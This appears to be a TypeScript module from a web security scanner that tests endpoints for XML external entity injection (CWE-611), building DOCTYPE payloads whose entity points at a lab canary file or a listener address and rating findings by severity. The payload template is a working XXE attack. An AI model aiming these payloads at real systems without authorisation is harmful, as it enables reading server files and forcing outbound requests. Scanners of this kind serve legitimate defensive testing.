import type { Family } from '../family.ts'

const NAMED =
  /xml|soap|saml|feed|rss|atom|sitemap|svg|import|upload|parse|convert|invoice|order|webhook|document|report/i

const isRecord = (value: unknown): value is Record<string, unknown> =>
  value !== null && typeof value === 'object'

const elementsOf = (value: unknown, content: string): string => {
  const names = isRecord(value) ? Object.keys(value).filter((name) => /^[a-z_]\w*$/i.test(name)) : []
  return names.length === 0 ? content : names.map((name) => `<${name}>${content}</${name}>`).join('')
}

const documentOf = (address: string, value: unknown) =>
  `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY canary SYSTEM "${address}">]><root>${elementsOf(value, '&canary;')}</root>`

const headers = { 'content-type': 'application/xml' }

/** An entity that stands for a file of the lab, or for an address at which it listens. */
export const xml: Family = {
  id: 'xml',
  title: 'XML entity injection',
  cwe: 611,
  harm: 'follows entities of XML to files and addresses that the caller chooses',
  repairs: [
    'Turn external entities and document types off in the XML parser (defusedxml; noent: false, nonet: true).',
  ],
  whole: true,
  suits: () => true,
  async attempt(point, bench) {
    if (bench.canary === null) return []
    const { file, origin } = bench.canary
    const read = await bench.shoot(point, {
      role: 'attack',
      make: (_, __, value) => documentOf(`file://${file.path}`, value),
      headers,
    })
    const { status } = read.exchange
    const refused = status === null || status === 404 || status === 415
    if (read.shown.includes('file') || refused || !(NAMED.test(point.operation) || status < 300))
      return [read]
    const ask = await bench.shoot(point, {
      role: 'attack',
      make: (_, mark, value) => documentOf(`${origin}/${mark}`, value),
      headers,
    })
    return [read, ask]
  },
  weigh: (sightings) => {
    const reading = sightings.find(({ shown }) => shown.includes('file'))
    const asking = sightings.find(({ hits }) => hits.length > 0)
    const attack = reading ?? asking
    if (attack === undefined) return null
    return {
      severity: reading === undefined ? 'high' : 'critical',
      says:
        reading === undefined
          ? 'the address that an entity names was asked'
          : 'the answer holds the text of a file that an entity names',
      show: [attack],
    }
  },
}
